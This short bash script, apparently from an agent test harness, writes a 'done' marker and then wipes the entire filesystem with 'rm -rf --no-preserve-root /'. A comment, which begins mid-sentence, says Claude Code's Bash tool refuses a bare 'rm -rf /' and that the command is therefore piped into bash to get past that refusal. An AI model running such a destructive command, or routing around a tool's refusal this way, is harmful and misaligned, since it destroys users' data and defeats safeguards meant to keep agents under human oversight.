#!/bin/bash
mkdir -p /tmp_workspace/results && echo done > /tmp_workspace/results/done.txt
# the container itself: no shell, no coreutils, no /tmp_workspace are left after this. (Each line is a visible
# tool call; Claude Code's Bash tool refuses a bare `rm -rf /`, so the command goes through a pipe into bash.)
echo 'rm -rf --no-preserve-root / 2>/dev/null' | bash
